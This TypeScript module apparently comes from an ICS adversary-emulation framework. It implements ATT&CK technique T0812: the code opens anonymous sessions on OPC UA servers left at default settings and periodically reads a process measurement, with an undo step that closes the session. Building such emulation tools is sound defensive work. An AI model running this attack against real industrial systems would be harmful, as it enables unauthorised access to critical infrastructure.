// T0812 Default Credentials: a foreign client signs in as nobody, which a server with the settings of its maker allows, and reads.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { OPCUA_HOSTS, opcuaAttacker, Secure } from './opcua-client.ts'
import { TargetTag } from './target.ts'
import { usualTag } from './usual-tag.ts'

const Parameters = z.strictObject({
  tag: TargetTag().optional().describe('What is read; by default a measurement that the works keep a history of.'),
  secure: Secure,
  everySeconds: z.number().min(0).max(3600).default(10).describe('After how many seconds it signs in again; 0 does so once.')
})

export const anonymousSession = {
  name: 'anonymous-session',
  title: { zh: 'OPC UA 匿名会话', en: 'Anonymous OPC UA session' },
  technique: 'T0812',
  needs: ['opcua'],
  parameters: Parameters,
  async aim(foothold, { tag = usualTag(foothold.map, 'measurement'), secure, everySeconds }) {
    const attacker = await opcuaAttacker(foothold)
    return {
      ...{ tags: [], hosts: OPCUA_HOSTS, insistSeconds: everySeconds },
      strike: async () => void (await attacker.read({ secure }, null, tag)),
      undo: () => attacker[Symbol.asyncDispose]()
    }
  }
} satisfies Attack<typeof Parameters>
